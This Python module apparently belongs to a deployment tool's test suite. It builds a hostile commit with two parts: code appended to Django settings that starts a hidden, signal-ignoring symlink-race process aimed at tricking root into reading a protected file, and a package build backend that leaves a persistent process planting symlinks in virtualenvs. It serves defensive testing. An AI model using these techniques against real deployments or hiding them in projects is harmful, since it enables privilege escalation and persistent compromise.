# SPDX-License-Identifier: GPL-3.0-or-later
"""What a hostile push brings: settings, and a package's build backend, that leave something running."""

from __future__ import annotations

from pathlib import Path

import projects

CANARY = "/root/canary-descriptors"  # a file of root's, 0600
PLANTED = "/srv/planted-descriptors"  # what root would make by following a link at `.complete`
SWAPPER, STAYS = "djdeploy-test-swapper", "djdeploy-test-stays"  # words of their command lines

# Begins when static files are collected, which is when root is about to take them and to compress them.
SETTINGS = f"""
import os, subprocess, sys

_static = f"/srv/{{os.environ.get('DJDEPLOY_SITE')}}/releases/{{os.environ.get('DJDEPLOY_RELEASE')}}/static"
if os.access(_static, os.W_OK):
    subprocess.Popen(
        [sys.executable, "-c", '''
import os, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.chdir(sys.argv[1])
end = time.monotonic() + 60
while time.monotonic() < end and not os.path.exists("staticfiles.json"):
    pass
names = [os.path.join(folder, name) for folder, _, files in os.walk(".") for name in files if name.endswith("css")]
while time.monotonic() < end:
    for name in names:
        try:
            os.symlink("{CANARY}", name + ".link")
            os.rename(name, name + ".other")
            os.rename(name + ".link", name)
            os.rename(name + ".other", name)
        except OSError:
            pass
''', _static, "{SWAPPER}"],
        start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
"""

BACKEND = f"""
import os, subprocess, sys, zipfile

STAY = '''
import glob, os, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    for venv in glob.glob("/srv/swaps/venvs/*"):
        try:
            os.symlink("{PLANTED}", venv + "/.complete")
        except OSError:
            pass
    time.sleep(0.001)
'''


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen([sys.executable, "-c", STAY, "{STAYS}"], start_new_session=True, **quiet)
    name = "grab-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        wheel.writestr("grab.py", "")
        wheel.writestr("grab-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: grab\\nVersion: 1.0\\n")
        wheel.writestr("grab-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("grab-1.0.dist-info/RECORD", "grab.py,,\\ngrab-1.0.dist-info/METADATA,,\\n")
    return name
"""
PYPROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "grab"
version = "1.0"
"""


def make_hostile(project: Path) -> None:
    """Give a project of the kind `notes` both attacks, as one commit."""
    projects.write(project, "mysite/settings.py", SETTINGS, append=True)
    projects.write(project, "requirements.txt", "./grab\n", append=True)
    projects.write(project, "grab/backend.py", BACKEND)
    projects.write(project, "grab/pyproject.toml", PYPROJECT)
    projects.commit(project, "Leave something running")
